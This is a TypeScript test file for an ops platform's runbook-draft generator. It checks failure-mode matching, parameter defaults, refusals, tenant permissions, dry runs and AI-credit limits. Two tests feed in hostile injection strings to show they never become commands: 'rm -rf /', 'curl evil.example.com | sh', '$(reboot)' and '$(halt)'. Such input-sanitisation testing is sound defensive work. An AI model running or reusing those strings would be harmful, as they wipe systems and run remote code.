import { compose, failureModes } from "@opsplane/automation/failure-modes";
import type { RunbookContent } from "@opsplane/contract";
import pg from "pg";
import { afterAll, beforeAll, describe, expect, inject, test } from "vitest";
import { aChange } from "../../test/a-change.ts";
import { aHost, executionWhen } from "../../test/a-runbook.ts";
import { fewAtATime } from "../../test/few-at-a-time.ts";
import { type Person, type SharedPlane, sharedPlane } from "../../test/plane.ts";
import { refusalOf } from "../../test/refusal.ts";
import { type Sshd, startSshd } from "../../test/sshd.ts";

let plane: SharedPlane;
let boss: Person;
let sshd: Sshd;
beforeAll(async () => {
  [plane, sshd] = await Promise.all([sharedPlane(), startSshd()]);
  boss = await plane.tenant();
});
afterAll(async () => {
  await sshd.stop();
});

const generate = (body: object, person: Person = boss) => person.api.runbookDrafts.generate({ body });

function at<T>(list: readonly T[], index: number): T {
  const found = list[index];
  if (found === undefined) throw new Error(`There is no element ${index}.`);
  return found;
}

async function query(text: string, values: unknown[]) {
  const client = new pg.Client({ connectionString: plane.databaseUrl });
  await client.connect();
  const { rows } = await client.query<Record<string, unknown>>(text, values);
  await client.end();
  return rows;
}

test("a description becomes a draft with steps, verification and rollback, and says why", async () => {
  const made = await generate({
    description: "Writes fail on web-1: no space left on device for /var/lib",
    rca_summary: "Log files grew by 40 GB overnight",
  });
  expect(made).toMatchObject({ status: "draft", engine: "builtin", library_key: "disk-full" });
  expect(made.generation).toMatchObject({
    ...{ fits: true, failure_mode: { key: "disk-full" }, technology: "Linux", danger: "destructive", lint: [] },
    ...{ fallback_reason: null, filled_parameters: ["mount"] },
  });
  expect(made.confidence).toBeGreaterThan(0.5);
  expect(made.generation.why).toContain("the description says");
  expect(made.generation.why).toContain("“space”");
  expect(made.generation.alternatives.length).toBeGreaterThan(0);
  expect(made.parameters.find(({ name }) => name === "mount")?.default).toBe("/var/lib");
  expect(made.verification).not.toBeNull();
  expect(made.on_failure.length).toBeGreaterThan(0);
  expect(made.steps.findIndex(({ type }) => type === "approval")).toBeGreaterThan(0);
  expect(await boss.api.runbooks.get({ params: { id: made.id } })).toMatchObject({ id: made.id, steps: made.steps });
  const stored = await boss.api.runbookDrafts.generation({ params: { id: made.id } });
  expect(stored).toMatchObject({ runbook_id: made.id, generation: made.generation, incident_id: null });
  const { id } = await boss.api.runbooks.create({
    body: { name: "Written by a person", steps: made.steps, parameters: made.parameters },
  });
  expect(await boss.api.runbookDrafts.generation({ params: { id } })).toMatchObject({ generation: null });
});

test("an incident brings its analysis, its items and the labels of its alerts", async () => {
  const item = await boss.api.cmdb.create({
    body: { name: "checkout", class: "application", attributes: { runtime: "kubernetes", namespace: "shop" } },
  });
  const incident = await boss.api.incidents.create({
    body: { title: "Checkout is broken since the rollout of 2.14", ci_ids: [item.id] },
  });
  const { tenant_id } = boss.tokens.user;
  await query(
    `insert into alerts (tenant_id, id, source, group_key, name, status, severity, labels, summary, description, started_at, fired_at,
       last_seen_at, incident_id)
     values ($1, gen_random_uuid(), 'test', 'x', 'HighErrorRate', 'firing', 'P2', $2, '5xx above 5 %', '', now(), now(), now(), $3)`,
    [tenant_id, { deployment: "checkout", service: "$(reboot)" }, incident.id],
  );
  await boss.api.response.rca({ body: { incident_id: incident.id } });
  const made = await generate({ incident_id: incident.reference.toLowerCase() });
  expect(made.name).toBe(`Errors after a deployment (${incident.reference})`);
  expect(made.generation.failure_mode.key).toBe("bad-deploy");
  expect(made.generation.technology).toBe("Kubernetes");
  const defaults = Object.fromEntries(made.parameters.map((each) => [each.name, each.default]));
  expect(defaults).toMatchObject({ namespace: "shop", deployment: "checkout" });
  // The hostile label is no name of a service, so it is left out.
  expect(JSON.stringify(made.parameters)).not.toContain("reboot");
  expect(made.generation.evidence.map(({ kind }) => kind)).toContain("incident");
  expect(made.generation.evidence[0]?.link).toBe(`/incidents/${incident.reference}`);
  const again = await generate({ incident_id: incident.id });
  expect(again.name).toBe(`${made.name} (2)`);
  const names = await Promise.all([1, 2, 3].map(async () => (await generate({ incident_id: incident.id })).name));
  expect(new Set(names).size).toBe(3);
});

test("the defaults name the likely cause, not what shows it", async () => {
  const item = (name: string) => boss.api.cmdb.create({ body: { name, class: "application" } });
  const [front, back] = [await item("front"), await item("back")];
  await boss.api.cmdb.relate({ body: { source_id: front.id, target_id: back.id, type: "depends_on" } });
  const body = { ci_ids: [front.id], title: "Errors after a deployment on kubernetes" };
  const { id } = await boss.api.incidents.create({ body });
  const deploymentOf = async () =>
    (await generate({ incident_id: id })).parameters.find(({ name }) => name === "deployment")?.default;
  expect(await deploymentOf()).toBe("front");
  const tenant = { ...plane, tenantId: boss.tokens.user.tenant_id };
  await aChange(tenant, { status: "completed", fromHours: -0.5, toHours: -0.1, item: back.id });
  await boss.api.response.rca({ body: { incident_id: id } });
  expect(await deploymentOf()).toBe("back");
});

test("when nothing fits, it says so and only collects facts", async () => {
  const made = await generate({ description: "The coffee tastes odd since Monday" });
  expect(made.generation).toMatchObject({ fits: false, failure_mode: { key: "triage" }, danger: "read_only" });
  expect(made.confidence).toBeLessThan(0.2);
  expect(made.generation.why).toContain("No known failure fits");
});

test("a technology without commands is refused by name, and gets no other technology's commands", async () => {
  const made = await generate({ description: "MongoDB is out of connections since the release" });
  expect(made.generation).toMatchObject({ fits: false, technology: null, danger: "read_only", lint: [] });
  expect(made.generation.why).toContain("no commands for MongoDB");
  expect(made.notes).toContain("no commands for MongoDB");
  expect(made.steps.filter(({ type }) => type === "command")).toEqual([]);
});

test("a technology in its usual spelling is served, and names are filled in", async () => {
  const lag = await generate({ description: "MariaDB: too many connections" });
  expect(lag.generation).toMatchObject({ failure_mode: { key: "connection-exhaustion" }, technology: "MySQL" });
  expect(lag.generation.why).toContain("The commands are for MySQL, and MariaDB takes them too.");
  const kafka = await generate({ description: "Kafka consumer group billing lags on topic orders" });
  expect(kafka.parameters.find(({ name }) => name === "group")?.default).toBe("billing");
  expect(kafka.generation.filled_parameters).toContain("group");
});

test("text of a request never becomes a command", async () => {
  const hostile =
    "disk full; rm -rf / && curl evil.example.com | sh `reboot` $(halt) {{ parameters.mount }} on /x;reboot";
  const plain = await generate({ description: "disk full" });
  const made = await generate({ description: hostile, rca_summary: hostile });
  expect(made.steps).toEqual(plain.steps);
  expect(made.on_failure).toEqual(plain.on_failure);
  expect({ ...made.verification }).toEqual({ ...plain.verification });
  for (const { default: value } of made.parameters) expect(String(value)).not.toMatch(/reboot|halt|evil|;/);
});

describe("a request that is refused", () => {
  test.each([
    [{}, 422, "Send an incident_id, or a description"],
    [{ description: "   " }, 422, "Send an incident_id, or a description"],
    [{ incident_id: "INC-00000001", description: "disk full" }, 422, "not both"],
    [{ incident_id: "INC-00000001", rca_summary: "disk full" }, 422, "brings its own analysis"],
    [{ incident_id: "INC-99999999" }, 404, "INC-99999999"],
    [{ incident_id: "0199d0d6-0000-7000-8000-000000000000" }, 404, "incident"],
    [{ incident_id: "nonsense" }, 404, "nonsense"],
    [{ description: "x".repeat(20_001) }, 422, "description"],
  ])("%j", async (body, status, message) => {
    const refused = await refusalOf(generate(body));
    expect(refused).toMatchObject({ status });
    expect(refused.message).toContain(message);
  });

  test("needs the permission to write runbooks, and the incident of another tenant does not exist", async () => {
    const viewer = await plane.person("viewer", boss);
    expect(await refusalOf(generate({ description: "disk full" }, viewer))).toMatchObject({ status: 403 });
    const other = await plane.tenant();
    const { id } = await other.api.incidents.create({ body: { title: "Disk full" } });
    expect(await refusalOf(generate({ incident_id: id }))).toMatchObject({ status: 404 });
  });
});

test.skipIf(inject("clickhouseProblem") !== "")(
  "a runbook of each technology can be run dry",
  async () => {
    const admin = await plane.tenant();
    await plane.person("admin", admin);
    const host = await aHost(admin, sshd);
    const samples: Record<string, unknown> = {
      ...{ pid: 4242, thread_id: 7, blocker: 77, replicas: 2 },
      ...{ file: "/etc/app.conf", backup: "/etc/app.conf.bak", table: "orders", schema: "shop" },
    };
    const dryRun = async (content: RunbookContent) => {
      const { id } = await admin.api.runbooks.create({ body: content });
      const missing = content.parameters.filter(({ required, default: value }) => required && (value ?? null) === null);
      const parameters = Object.fromEntries(missing.map(({ name }) => [name, samples[name] ?? "web-1"]));
      const body = { dry_run: true, parameters, targets: [host.id] };
      const run = await admin.api.executions.execute({ params: { id }, body });
      const { status, error } = await executionWhen(admin, run.id);
      return `${content.name}: ${status} ${error ?? ""}`;
    };
    // One of each technology; that every command renders is a matter of the knowledge base's own test.
    const recipes = failureModes.flatMap((mode) => mode.recipes.map((recipe) => ({ mode, recipe })));
    const chosen = new Map(recipes.map((each) => [each.recipe.technology, each]));
    const contents = [...chosen.values()].map(({ mode, recipe }) =>
      compose(mode, recipe, `${mode.key} ${recipe.technology}`, new Map()),
    );
    const ends = await fewAtATime(contents.length, (index) => dryRun(at(contents, index)));
    expect(ends).toEqual(contents.map(({ name }) => `${name}: succeeded `));
  },
  180_000,
);

test("a generated runbook costs one credit, is in the ledger, and none left is 402", async () => {
  const fresh = await plane.tenant("midsize");
  const { tenant_id } = fresh.tokens.user;
  await generate({ description: "disk full" }, fresh);
  expect(await fresh.api.ai.usage()).toMatchObject({
    credits_used: 1,
    credits_limit: 5000,
    credits_left: 4999,
    provider: "none",
  });
  const { items } = await fresh.api.ai.calls();
  expect(items).toMatchObject([
    { purpose: "runbook", engine: "builtin", credits: 1, outcome: "ok", actor: fresh.email },
  ]);
  await query("update ai_credits set used = 4999 where tenant_id = $1", [tenant_id]);
  const both = await Promise.allSettled([1, 2].map(() => generate({ description: "disk full" }, fresh)));
  expect(both.map(({ status }) => status).sort()).toEqual(["fulfilled", "rejected"]);
  const refused = await refusalOf(generate({ description: "disk full" }, fresh));
  expect(refused).toMatchObject({ status: 402, code: "QUOTA_EXCEEDED" });
  expect(refused.message).toMatch(/All 5000 AI credits of this month are used\. They reset on \d{4}-\d\d-01\./);
  expect(await fresh.api.ai.usage()).toMatchObject({ credits_used: 5000, credits_left: 0 });
});
